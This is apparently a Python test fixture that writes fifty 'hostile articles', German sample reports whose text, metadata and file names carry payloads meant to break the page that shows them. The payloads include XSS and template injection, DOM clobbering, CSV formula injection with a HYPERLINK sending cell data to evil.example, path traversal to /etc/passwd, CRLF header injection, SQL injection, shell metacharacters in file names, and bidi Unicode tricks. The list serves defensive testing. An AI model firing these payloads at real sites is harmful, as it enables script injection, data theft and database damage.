"""Fifty articles that try to break the page which shows them: by their text, their facts, or the name of their file.

What would be executed sets `window.executed`; what would be loaded is at evil.example.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterable
from dataclasses import dataclass
from pathlib import Path

QUESTION = "Wer prüfte die Hafenmauer von Altenfleth?"
_SENTENCE = "Die Hafenmauer von Altenfleth prüfte der Ingenieur Nummer {number} im Jahr {year}."
_RUN = "window.executed=1"
_FACTS = ("title", "source", "author", "url")
_NOT_IN_TEXT = re.compile("[\x00-\x08\x0e-\x1f\x7f-\x9f\u2028\u2029\ud800-\udfff\ufffe]")


@dataclass(frozen=True, slots=True)
class HostileArticle:
    """An article with hostile words in its text, its facts as they are given, and the name of its file."""

    hostile: str
    name: str
    title: str | None = None
    source: str | None = None
    author: str | None = None
    url: str | None = None


def _in_facts(hostile: str, name: str) -> HostileArticle:
    return HostileArticle(hostile, name, title=hostile, source=hostile, author=hostile, url=hostile)


# most at fault first: the first ones are tried by a plain `pytest`, all of them by the slow tests
HOSTILE_ARTICLES = (
    _in_facts(f"<script>{_RUN}</script><img src=//evil.example/a onerror={_RUN}>", "<img src=x onerror=alert(1)>"),
    _in_facts(f"\" onmouseover='{_RUN}' autofocus onfocus=\"{_RUN}\" style=\"position:fixed\" x='", "\"quoted' name"),
    _in_facts("\u202eהפוך left to right\u202d 12345 \u2067 offen", "\u202egpj.rotinom"),
    _in_facts("وصلت السفينة الأولى إلى ميناء بريمن في عام 1823، وكان على متنها 45 شخصا", "تقرير"),
    _in_facts("Wort" * 25_000, "w" * 251),
    _in_facts(f"{{{{constructor.constructor('{_RUN}')()}}}} ${{{_RUN}}} <%= 7*7 %> {{% raw %}} @children", "{{x}}"),
    _in_facts(f"</textarea></title></template></blockquote></style></script><script>{_RUN}</script>", "newline\nname"),
    _in_facts("=cmd|' /C calc'!A0", "=1+2"),
    _in_facts(f"javascript:{_RUN}//%0A%22<svg onload={_RUN}>", "%2e%2e%2fup"),
    _in_facts("Z̴̢̛̖̳̰͙̦̀̈́͊̓" + "Z" + "\u0334\u0322\u031b\u0316\u0333\u0330\u0359" * 60 + " ein Turm", "tower" + "\u0301" * 40),
    _in_facts("A\x00B\x01C\x07D\x1b[31mE\x7fF\x85G\u2028H\u2029I", "bell\x07\x1b[31m"),
    _in_facts(f"data:text/html,<script>{_RUN}</script>", "#hash?query=1&lang=en"),
    _in_facts(f"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== vbscript:{_RUN}", "-rf"),
    _in_facts(f"JaVaScRiPt&#58;{_RUN} java\tscript:{_RUN} \x01javascript:{_RUN}", "   "),
    _in_facts(f"//evil.example/a https://evil.example/\"onmouseover=\"{_RUN}", "a;b&c|d$(e)`f`"),
    HostileArticle("Adresse mit Zeichen", "address", url=f"https://evil.example/'\"><svg onload={_RUN}>?{{{{7*7}}}}"),
    HostileArticle("Adresse mit Umleitung", "credentials", url="http://127.0.0.1:1@evil.example/\u202emoc.\\..\\"),
    _in_facts(f"<svg onload={_RUN}><animate onbegin={_RUN} attributeName=x></svg>", "café"),
    _in_facts("<base href='//evil.example/'><link rel=stylesheet href='//evil.example/a.css'>", "a..b"),
    _in_facts("<meta http-equiv=refresh content='0;url=//evil.example/'>", "~"),
    _in_facts(f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe><object data=//evil.example/a>", "con"),
    _in_facts("<form id=fs-ask name=body action=//evil.example/><input name=submit><button id=fs-button>", "__proto__"),
    _in_facts("<a id=fundstelleWords name=fundstelleWords><img name=getElementById><p id=fs-results>", "constructor"),
    _in_facts("<!-- ein Kommentar --!> <![CDATA[ Daten ]]> <!DOCTYPE html> <?xml version='1.0'?> <!-->", "<!--"),
    _in_facts(f"</style><style>@import '//evil.example/a.css';*{{display:none}}</style>{_RUN}", "a.b.c.html"),
    _in_facts(f"&lt;script&gt;{_RUN}&lt;/script&gt; &amp;amp; &#x202e; &nbsp &copy", "&amp;"),
    _in_facts(f"<math><mtext><table><mglyph><style><img src onerror={_RUN}></style>", "math"),
    _in_facts(f"<noscript><p title=\"</noscript><img src=x onerror={_RUN}>\">", "noscript"),
    _in_facts(f"<details open ontoggle={_RUN}><video><source onerror={_RUN}></video>", "video"),
    _in_facts(f"<x-y tabindex=1 onfocus={_RUN} autofocus contenteditable>Text</x-y>", "custom"),
    _in_facts(f"'-alert(1)-' ';{_RUN}// \\';{_RUN}// \\u003cscript\\u003e", "back\\slash"),
    _in_facts("\u2066 isoliert \u2067 אחד \u2068 zwei ohne Ende \u202a\u202b\u202c", "\u2067isolate"),
    _in_facts("שלום עולם: 12 ספינות, (3.5) אנשים — <b>לא</b> \u200f!", "עברית"),
    _in_facts("Ein Satz, dann \u202eein umgekehrter\u202c, dann اسم عربي (42), dann Schluss.", "mixed عربي 42"),
    _in_facts("A\u200bB\u200cC\u200dD\u2060E\ufeffF\u00adG\u034fH\u180eI", "zero\u200bwidth"),
    _in_facts("👩‍👩‍👧‍👦 🏳️‍🌈 🇩🇪🇨🇭 👍🏽 ☎︎ 1️⃣ 🧑🏿‍🚀 \U000e0041\U000e007f \U0001f1e6", "👩‍👩‍👧‍👦"),
    _in_facts("a\u0300" * 20 + "\u0e01" + "\u0e33\u0e49" * 50 + "\u0f40" + "\u0fb5" * 50, "thai"),
    HostileArticle("Eine lange Überschrift", "headline", title=("Überschrift ohne Ende " * 250)[:5_000]),
    HostileArticle("Ein einziges Wort", "one word", title="Ü" * 5_000, source="B" * 3_000, author="A" * 3_000),
    HostileArticle("Zeile ohne Ende und ohne Absatz, " * 300_000, "single line"),
    HostileArticle("x\n" * 20_000, "short lines", title="Zeilen"),
    HostileArticle("\r\n\r\nSet-Cookie: a=b\r\n\r\n<h1>Kopf</h1>", "header", title="Kopf\r\nSet-Cookie: a=b"),
    _in_facts("+49 123", "+49"),
    _in_facts("@SUM(1+1)*cmd|' /C calc'!A0", "@sum"),
    _in_facts("\t=HYPERLINK(\"https://evil.example/?\"&A1,\"Klick\")", "-1+1"),
    _in_facts("../../../../etc/passwd", "%00.html"),
    _in_facts("C:\\Windows\\System32\\..\\ con: nul: file:///etc/passwd", "C:\\con"),
    _in_facts("\ud800 halbes Zeichen \udfff und \ufffe \U0010ffff \ufdd0", "half"),
    _in_facts("\u3000\u00a0\u2003 nur Leerraum um ein Wort \u2007\u202f\u205f", "\u3000\u00a0"),
    _in_facts("'; DROP TABLE articles; -- \" OR 1=1 %' LIKE '%_%' ESCAPE '\\", "'; DROP TABLE articles; --"),
)  # fmt: skip


def write_hostile(folder: Path, articles: Iterable[HostileArticle] = HOSTILE_ARTICLES) -> list[Path]:
    """Write the files of the articles, and return them in their order: as text that stays as it is, whatever markup it
    looks like, or as JSON where there are signs that a file of text does not have.
    """
    files = []
    for number, article in enumerate(articles):
        sentence = _SENTENCE.format(number=number, year=1900 + number)
        text = f"{sentence}\n\n{article.hostile}\n\nSo steht es im Bericht {number}."
        facts = {name: value for name in _FACTS if (value := getattr(article, name)) is not None}
        if _NOT_IN_TEXT.search(article.hostile):
            suffix, written = ".json", json.dumps({"text": text, **facts})
        else:
            head = "".join(f"{name}: {json.dumps(value, ensure_ascii=False)}\n" for name, value in facts.items())
            suffix, written = ".txt", f"---\n{head}---\n\n{text}"
        file = folder / f"{article.name[: 255 - len(suffix)]}{suffix}"
        file.write_text(written, encoding="utf-8", newline="")
        files.append(file)
    return files
